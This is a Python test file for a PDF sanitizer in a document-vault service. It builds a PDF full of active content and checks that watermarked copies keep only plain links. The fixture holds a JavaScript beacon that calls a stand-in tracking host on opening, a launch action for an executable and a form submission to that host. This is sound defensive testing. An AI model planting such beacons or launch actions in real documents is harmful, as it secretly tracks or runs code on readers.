"""D22, D10: a partner's PDF copy only shows; nothing in it runs. A document a stranger sent through the
public form (and staff shared) may carry a script that reports its opening to its maker, launches a
file or submits a form: the copy drops document-level scripts, the action on opening, additional
actions (a page's, a field's) and every link action but going to a page, opening a web address the page
shows or a viewer's named command. A page to open at, and ordinary links, stay."""

from __future__ import annotations

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from vault.services.watermark import mark_pdf

BEACON = "app.launchURL('https://melder.example/gezien')"


def _script(code: str = BEACON) -> Dictionary:
    return Dictionary(S=Name("/JavaScript"), JS=String(code))


def _link(pdf: Pdf, action: Dictionary) -> pikepdf.Object:
    return pdf.make_indirect(
        Dictionary(Type=Name("/Annot"), Subtype=Name("/Link"), Rect=Array([0, 0, 50, 50]), A=action)
    )


def _pdf_with_active_content() -> bytes:
    pdf = Pdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    page = pdf.pages[0]
    pdf.Root.OpenAction = _script()
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("op-openen"), pdf.make_indirect(_script())]))
    )
    pdf.Root.AA = Dictionary(WC=_script())  # before the document closes
    page.obj.AA = Dictionary(O=_script())  # when the page opens
    page.obj.Annots = Array(
        [
            _link(pdf, Dictionary(S=Name("/Launch"), F=String("C:\\start.exe"))),
            _link(pdf, Dictionary(S=Name("/SubmitForm"), F=String("https://melder.example/form"))),
            _link(pdf, Dictionary(S=Name("/URI"), URI=String("https://www.vt.example/uitleg"))),
            _link(pdf, Dictionary(S=Name("/GoTo"), D=Array([pdf.pages[1].obj, Name("/Fit")]))),
            _link(pdf, Dictionary(S=Name("/URI"), URI=String("https://x.example"), Next=_script())),
        ]
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_d22_nothing_in_a_partners_pdf_copy_runs() -> None:
    original = _pdf_with_active_content()
    assert b"launchURL" in original
    copy = mark_pdf(original, "Verstrekt aan Wijkteam")
    assert b"launchURL" not in copy
    assert b"start.exe" not in copy
    assert b"melder.example" not in copy
    with pikepdf.open(io.BytesIO(copy)) as marked:
        assert "/OpenAction" not in marked.Root
        assert "/AA" not in marked.Root
        assert "/JavaScript" not in marked.Root.get("/Names", Dictionary())
        page = marked.pages[0].obj
        assert "/AA" not in page
        actions = [annot.get("/A") for annot in page.Annots if annot.get("/Subtype") == Name("/Link")]
        kinds = [a.S for a in actions if a is not None]
        assert kinds == [Name("/URI"), Name("/GoTo")]  # the web address and the page link stay
        assert str(actions[2].URI) == "https://www.vt.example/uitleg"


def test_d22_a_page_to_open_at_stays() -> None:
    pdf = Pdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    pdf.Root.OpenAction = Array([pdf.pages[1].obj, Name("/Fit")])
    out = io.BytesIO()
    pdf.save(out)
    with pikepdf.open(io.BytesIO(mark_pdf(out.getvalue(), "Verstrekt aan Wijkteam"))) as marked:
        assert isinstance(marked.Root.OpenAction, Array)
